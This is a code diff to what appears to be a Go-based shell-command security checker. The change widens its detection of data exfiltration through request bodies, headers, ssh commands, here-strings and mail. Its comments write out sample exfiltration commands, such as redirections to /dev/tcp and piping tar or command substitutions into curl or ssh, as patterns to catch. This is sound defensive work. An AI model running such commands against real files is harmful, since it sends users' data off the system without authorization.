@@ -27,7 +27,13 @@ socat's FILE: or OPEN: address when it is a source (both are, unless -u
 or -U makes the copy one-way); TFTP's put (tftp -c put FILE, busybox tftp
 -p -l FILE, atftp --put --local-file FILE); gh gist create FILE; and a redirection
 to bash's /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT (cat f > /dev/tcp/h/80,
-exec 3<>/dev/tcp/h/80), which is a connection, not a file. An upload of a secret
+exec 3<>/dev/tcp/h/80), which is a connection, not a file. Local data
+put into what a sender sends is an upload too: a command substitution's
+output, or a variable holding one or a file's line, in posted data,
+headers, form fields, a here-string or here-document on its standard
+input, or the command ssh runs (ssh HOST 'cat > x' <<< "$(cat f)", curl
+-d "$x" after read x < f); so is the body mail, mailx, s-nail or mutt
+reads on its standard input. An upload of a secret
 (the secret class of the path module) is denied. An upload of any other local
 file to a host that is not on network.allow_hosts (default: the loopback
 names) is asked about; curl's host is its URL's (a URL without a scheme is
@@ -167,6 +173,11 @@ func checkExfiltrate(p *Pass, c *syntax.Call) {
 		for _, o := range find(opts, "post-file", "body-file") {
 			p.upload(c, o.val, host)
 		}
+		// The request's own text (wget(1)): posted data, headers, the
+		// user's name and password, the user agent and the referer.
+		for _, o := range find(opts, "post-data", "body-data", "header", "user", "password", "http-user", "http-password", "U", "user-agent", "referer") {
+			p.sendText(c, o.val, host)
+		}
 		for _, o := range find(opts, "i", "input-file") {
 			// wget -i FILE requests each line of FILE as a URL (with
 			// -B/--base, joined to that address): a secret's lines
@@ -201,6 +212,15 @@ func checkExfiltrate(p *Pass, c *syntax.Call) {
 	case "ssh":
 		p.sshSendEnv(c)
 		p.sshStdinUpload(c)
+		if dest, words, ok := syntax.SSHCommandWords(c); ok {
+			host := ""
+			if dest.Static {
+				host = sshHostName(dest.Value)
+			}
+			for _, w := range words {
+				p.sendText(c, w, host)
+			}
+		}
 	case "docker":
 		p.dockerBuildSends(c)
 		p.copyIntoContainer(c)
@@ -316,8 +336,9 @@ func (p *Pass) upload(c *syntax.Call, a syntax.Arg, host string) {
 // -d @-): a file redirected there is uploaded as that file; the output of
 // an earlier pipeline stage is local data as a file is (cat f | curl -T -,
 // git bundle create - --all | curl -T -, tar c . | curl --data-binary @-),
-// except what echo or printf print from the command's own words; a
-// here-document's text is the command's own.
+// except what echo or printf print from the command's own words. A
+// here-string's or here-document's text is the command's own, unless
+// the shell puts local data in it (<<< "$(cat notes.txt)": localData).
 func (p *Pass) uploadStdin(c *syntax.Call, host string) {
 	in := c.Fd(0)
 	if r, ok := in.File(); ok {
@@ -326,27 +347,22 @@ func (p *Pass) uploadStdin(c *syntax.Call, host string) {
 		p.upload(c, t, host)
 		return
 	}
+	if w, ok := in.TextWord(); ok {
+		p.sendText(c, w, host)
+		return
+	}
 	if in.Kind != syntax.StreamPipe || in.Pipe == nil || in.Stage < 1 || host != "" && p.hostAllowed(host) {
 		return
 	}
 	src := in.Pipe.Stage(in.Stage - 1)
-	if src != nil && (src.Name == "echo" || src.Name == "printf") {
-		if _, dynamic, ok := syntax.EchoText(src); ok && !dynamic {
-			return
-		}
-	}
-	if src != nil && p.fetchedFromAway(src) {
+	if src != nil && (ownText(src) || p.fetchedFromAway(src)) {
 		return // curl URL | ssh HOST bash -s: another host's bytes, relayed
 	}
 	what := "an earlier stage of the pipeline"
 	if src != nil {
 		what = clipText(src.Text(), 60)
 	}
-	where := "a host that is not on network.allow_hosts"
-	if host != "" {
-		where = host + ", which is not on network.allow_hosts"
-	}
-	p.Report(c, Finding{Rule: "exfiltrate", Decision: Ask, Message: fmt.Sprintf("%s uploads what %s prints, local data, to %s", c.Name, what, where)})
+	p.reportLocalData(c, "what "+what+" prints", host)
 }
 
 // fetchedFromAway reports a pipeline stage that prints what it downloads
@@ -559,6 +575,7 @@ func (p *Pass) curlUploads(c *syntax.Call) {
 			}
 		}
 	}
+	p.curlTextSends(c, opts, host)
 }
 
 // sub returns a's word with another value (a file named inside an option's
@@ -579,16 +596,22 @@ func sub(a syntax.Arg, v string) syntax.Arg {
 
 func (p *Pass) httpieUploads(c *syntax.Call) {
 	_, operands := scan(c.Args, optSpec{shortVal: "aAopv", longVal: longOpts("auth", "auth-type", "output", "session", "session-read-only", "pretty", "style", "print", "verify", "cert", "cert-key", "proxy", "timeout", "max-redirects", "format-options", "response-charset", "response-mime", "unsorted", "boundary", "raw"), longEq: true})
-	host := ""
+	host, url := "", false
 	for _, i := range operands {
 		a := c.Args[i]
-		if !a.Static {
-			continue
-		}
 		v := a.Value
-		if host == "" {
+		if !url {
+			// [METHOD] URL ITEM...: the URL is the first operand that
+			// is not a method; one only known at run time leaves the
+			// host unknown.
 			switch strings.ToUpper(v) {
 			case "GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS":
+				if a.Static {
+					continue
+				}
+			}
+			url = true
+			if !a.Static {
 				continue
 			}
 			host = hostOf(v)
@@ -605,7 +628,11 @@ func (p *Pass) httpieUploads(c *syntax.Call) {
 		}
 		if file, ok := httpieFileItem(v); ok {
 			p.upload(c, sub(a, file), host)
+			continue
 		}
+		// A field, header or query item's value: the request's own
+		// text, unless the shell puts local data in it.
+		p.sendText(c, a, host)
 	}
 }
 
